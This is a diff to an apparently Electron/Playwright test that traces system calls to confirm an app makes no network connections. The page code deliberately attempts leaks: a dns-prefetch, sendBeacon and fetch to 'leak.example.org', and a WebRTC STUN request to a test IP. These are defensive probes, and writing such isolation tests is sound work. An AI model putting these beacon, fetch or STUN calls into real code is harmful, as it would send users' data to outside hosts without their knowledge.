@@ -27,7 +27,7 @@ test('nothing is sent or connected to a network, from start to quit', async ({ l
     through: ['strace', '-f', '-qq', '-yy', '-e', 'trace=connect,sendto,sendmsg,sendmmsg', '-o', log],
   });
   const main = await makeVault(app);
-  await main.evaluate(() => {
+  await main.evaluate(async () => {
     const link = document.createElement('link');
     link.rel = 'dns-prefetch';
     link.href = '//leak.example.org';
@@ -39,10 +39,15 @@ test('nothing is sent or connected to a network, from start to quit', async ({ l
     navigator.sendBeacon('https://leak.example.org/', 'x');
     const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:3478' }] });
     peer.createDataChannel('x');
-    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
-    void fetch('https://leak.example.org/').catch(() => undefined);
+    const gathered = new Promise((resolve) => {
+      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(null);
+    });
+    await peer.setLocalDescription(await peer.createOffer());
+    await fetch('https://leak.example.org/').catch(() => undefined);
+    await gathered;
   });
-  await main.waitForTimeout(3000);
+  // Looking up a name ahead of time tells nobody when it is over.
+  await main.waitForTimeout(1500);
   await app.close();
   const text = fs.readFileSync(log, 'utf8');
   expect(text, 'the trace names the kind of each socket').toMatch(/<UDP(v6)?:/);
